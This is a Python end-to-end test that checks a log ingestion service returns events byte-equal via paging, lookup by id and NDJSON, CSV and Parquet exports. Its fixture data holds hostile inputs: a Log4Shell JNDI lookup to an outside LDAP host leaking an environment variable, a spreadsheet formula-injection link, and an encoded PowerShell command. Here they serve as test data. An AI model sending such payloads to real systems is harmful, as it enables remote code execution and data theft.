"""What goes in over HTTP comes out byte-equal: by page, by id and by export, in every kind of file.

Always with made-up events that have every difficulty met in real ones. THREATLOG_TEST_EVENTS names a folder with real
ones (`*.log.zst`, one message a line; `*.ndjson.zst`, one JSON object a line): then they make the same way.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import urllib.request
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final
from uuid import UUID

import msgspec
import pyarrow.parquet as pq
import pytest
import zstandard

from tests.e2e.fleet import Fleet, ready_fleet
from tests.processes import http_json, wait_until
from tests.servers import Stack, StackMaker

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(900)]
FOLDER: Final = os.environ.get("THREATLOG_TEST_EVENTS")
_BATCH_EVENTS: Final = 2000
_BATCH_BYTES: Final = 4 << 20
# Of real events one in so many is also asked for by its id.
_BY_ID_EVERY: Final = 500
# What docs/bad-input.md says is refused: too large by the limits, or with the character that PostgreSQL cannot hold.
REFUSED: Final = {"attributes_too_large", "message_too_large", "event_too_large", "nul_character"}


@dataclass(frozen=True, slots=True)
class Sent:
    """One event as it was sent. `attributes` are the bytes of a JSON object."""

    id: str
    ts: datetime
    source: str
    message: str
    attributes: bytes | None

    def body(self) -> bytes:
        """As it stands in a batch."""
        about = {"id": self.id, "timestamp": self.ts.isoformat(), "severity": "INFO", "source": self.source}
        text = json.dumps({**about, "message": self.message}, ensure_ascii=False).encode()
        return text if self.attributes is None else text[:-1] + b',"attributes":' + self.attributes + b"}"


class _Log(msgspec.Struct):
    id: str
    message: str
    attributes: msgspec.Raw | msgspec.UnsetType = msgspec.UNSET


class _Page(msgspec.Struct):
    logs: list[_Log]
    next_cursor: str | None


Contents = dict[str, tuple[str, bytes | None]]


def made_up() -> list[tuple[str, bytes | None]]:
    """Messages and attributes with what real ones have: see the names of the tests of bad input for the rest."""
    messages = (
        "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186\r",
        "ends in CRLF\r\n",
        "two\nlines\r\nand a \ttab",
        "",
        " blanks around ",
        "${jndi:ldap://203.0.113.9:1389/${env:HOME}}",
        '=HYPERLINK("http://203.0.113.9","x")',
        "\x1b[31mred\x1b[0m \x01\x7f",
        "quotes \" ' and \\ backslashes \\u0041 \\\\",
        "Ünïcödé 日本語 🔥 \u202e \u2028 \ufeff",
    )
    attributes = (
        b"{}",
        b'{"flow_id":1796791384213545987,"pcap_cnt":18446744073709551616,"big":' + b"7" * 300 + b"}",
        b'{"f":1.0000000000000000001,"e":1E+2,"z":-0.0}',
        b'{"a":' * 10 + b'{"deep":"11 levels"}' + b"}" * 10,
        b' { "spread" :\r\n\t[ 1 ,\n 2 ]\r } ',
        b'{"same":1,"same":2,"":3," ":4}',
        b'{"text":"\\u00e9 \\ud83d\\udd25 \\/ \\b\\f\\n\\r\\t \\\\u0000","raw":"\xc3\xa9 \xf0\x9f\x94\xa5"}',
        b'{"payload_printable":"GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n","cmd":"powershell -enc \\"QQ==\\""}',
        b'{"large":"' + b"x" * 60_000 + b'"}',
        b'{"too_large":"' + b"x" * 1_600_000 + b'"}',
    )
    both = [(message, raw) for message in messages for raw in (None, *attributes[:-2])]
    return [*both, *(("m", raw) for raw in attributes), ("x" * 262_144, None), ("x" * 262_145, None)]


def real(path: Path) -> Iterator[tuple[str, bytes | None]]:
    """The lines of a file: as messages with what ends them but LF, or as attributes."""
    with path.open("rb") as file:
        data = zstandard.ZstdDecompressor().stream_reader(file, read_across_frames=True).read()
    for line in data.split(b"\n"):
        if path.name.endswith(".log.zst"):
            yield line.decode(), None
        elif line:
            yield "", line


FILES = sorted(path for path in Path(FOLDER or os.devnull).glob("*") if path.name.endswith((".log.zst", ".ndjson.zst")))


@pytest.fixture(scope="module")
def stack(stack_maker: StackMaker) -> Iterator[Stack]:
    made = stack_maker.make(4, {})
    yield made
    stack_maker.remove(made)


@pytest.fixture(scope="module")
def fleet(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    """A gateway, one worker and a query API, ready."""
    with ready_fleet(stack, tmp_path_factory.mktemp("logs")) as made:
        yield made


@pytest.mark.parametrize("path", [None, *FILES], ids=lambda path: path.name if path else "made-up")
def test_what_goes_in_comes_out_byte_equal(fleet: Fleet, path: Path | None) -> None:
    contents = made_up() if path is None else list(real(path))
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    source = "made-up" if path is None else path.name
    rng = random.Random(source)
    events = [_event(rng, start + timedelta(milliseconds=10 * n), source, *found) for n, found in enumerate(contents)]
    refused = _send(fleet, events)
    assert set(refused.values()) <= REFUSED
    assert len(refused) < len(events) / 10
    kept = {e.id: (e.message, _outer(e.attributes)) for e in events if e.id not in refused}
    span = {"start_time": start.isoformat(), "end_time": (start + timedelta(hours=1)).isoformat(), "source": source}
    wait_until(lambda: _count(fleet, span) == len(kept), 60, f"{len(kept)} events are stored")
    assert _paged(fleet, span) == kept
    for identifier in list(kept)[:: 1 if path is None else _BY_ID_EVERY]:
        assert _by_id(fleet, identifier) == kept[identifier]
    on_one_line = {identifier: (message, _one_line(raw)) for identifier, (message, raw) in kept.items()}
    assert _of_lines(_exported(fleet, span, format="ndjson", compression="zstd")) == on_one_line
    assert _of_csv(_exported(fleet, span, format="csv")) == kept
    assert _of_parquet(_exported(fleet, span, format="parquet", compression="zstd")) == kept


def test_an_export_of_words_has_all_events_with_them(fleet: Fleet) -> None:
    """By the filters of words that the worker wrote, where it writes them."""
    start = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
    rng = random.Random(1)
    events = [
        _event(rng, start + timedelta(seconds=n), "words", f"{'needle' if n % 97 == 0 else 'hay'} {n}", None)
        for n in range(3000)
    ]
    assert not _send(fleet, events)
    span = {"start_time": start.isoformat(), "end_time": (start + timedelta(hours=1)).isoformat(), "source": "words"}
    wait_until(lambda: _count(fleet, span) == len(events), 60, "all are stored")
    wanted = [event.message for event in events if event.message.startswith("needle")]
    found = _exported(fleet, span, q="needle", order="oldest_first")
    assert [json.loads(line)["message"] for line in found.splitlines()] == wanted
    found = _exported(fleet, span, q="needle -hay")
    assert [json.loads(line)["message"] for line in found.splitlines()] == wanted[::-1]


def _event(rng: random.Random, ts: datetime, source: str, message: str, raw: bytes | None) -> Sent:
    milliseconds = int(ts.timestamp() * 1000)
    identifier = (milliseconds << 80) | 8 << 76 | rng.getrandbits(12) << 64 | 2 << 62 | rng.getrandbits(62)
    return Sent(str(UUID(int=identifier)), ts, source, message, raw)


def _outer(raw: bytes | None) -> bytes | None:
    """Blanks around the object belong to the batch's JSON, not to the value."""
    return None if raw is None else raw.strip()


def _one_line(raw: bytes | None) -> bytes | None:
    return None if raw is None else raw.replace(b"\n", b" ").replace(b"\r", b" ")


def _send(fleet: Fleet, events: Sequence[Sent]) -> dict[str, str]:
    """Sends all in batches; of those that were refused, why."""
    refused: dict[str, str] = {}
    batch: list[Sent] = []
    size_bytes = 0
    for event in [*events, None]:
        if batch and (event is None or len(batch) >= _BATCH_EVENTS or size_bytes >= _BATCH_BYTES):
            body = b'{"logs":[' + b",".join(sent.body() for sent in batch) + b"]}"
            url = f"{fleet.gateway_url}/api/v1/logs/ingest/batch"
            request = urllib.request.Request(url, body, {"Content-Type": "application/json"})
            with urllib.request.urlopen(request, timeout=60) as answer:
                errors = json.load(answer)["errors"]
            refused |= {batch[error["index"]].id: error["code"] for error in errors}
            batch, size_bytes = [], 0
        if event is not None:
            batch.append(event)
            size_bytes += len(event.message) + len(event.attributes or b"")
    return refused


def _get(fleet: Fleet, path: str) -> bytes:
    with urllib.request.urlopen(f"{fleet.query_url}{path}", timeout=120) as answer:
        found: bytes = answer.read()
    return found


def _query(parameters: dict[str, str]) -> str:
    return "&".join(f"{name}={value.replace('+', '%2B')}" for name, value in parameters.items())


def _count(fleet: Fleet, span: dict[str, str]) -> int:
    found: int = json.loads(_get(fleet, f"/api/v1/stats?{_query(span)}"))["total"]
    return found


def _paged(fleet: Fleet, span: dict[str, str]) -> Contents:
    asked, found = dict(span), Contents()
    while True:
        page = msgspec.json.decode(_get(fleet, f"/api/v1/logs/query?{_query({**asked, 'limit': '1000'})}"), type=_Page)
        found |= {log.id: _content(log) for log in page.logs}
        if page.next_cursor is None:
            return found
        asked["cursor"] = page.next_cursor


def _by_id(fleet: Fleet, identifier: str) -> tuple[str, bytes | None]:
    return _content(msgspec.json.decode(_get(fleet, f"/api/v1/logs/{identifier}"), type=_Log))


def _content(log: _Log) -> tuple[str, bytes | None]:
    return log.message, None if isinstance(log.attributes, msgspec.UnsetType) else bytes(log.attributes)


def _exported(fleet: Fleet, span: dict[str, str], **members: Any) -> bytes:
    status, export = http_json(f"{fleet.query_url}/api/v1/exports", {**span, **members})
    assert status == 201, export
    return _get(fleet, export["rows_url"])


def _of_lines(data: bytes) -> Contents:
    text = zstandard.ZstdDecompressor().stream_reader(data, read_across_frames=True).read()
    logs = [msgspec.json.decode(line, type=_Log) for line in text.split(b"\n")[:-1]]
    return {log.id: _content(log) for log in logs}


def _of_csv(data: bytes) -> Contents:
    csv.field_size_limit(1 << 24)
    records = list(csv.reader(io.StringIO(data.decode(), newline="")))[1:]
    cells = [[cell.removeprefix("'") for cell in record] for record in records]
    return {cell[0]: (cell[4], cell[6].encode() if cell[6] else None) for cell in cells}


def _of_parquet(data: bytes) -> Contents:
    table = pq.read_table(io.BytesIO(data), columns=["id", "message", "attributes"])
    return {
        str(row["id"]): (row["message"], None if row["attributes"] is None else row["attributes"].encode())
        for row in table.to_pylist()
    }
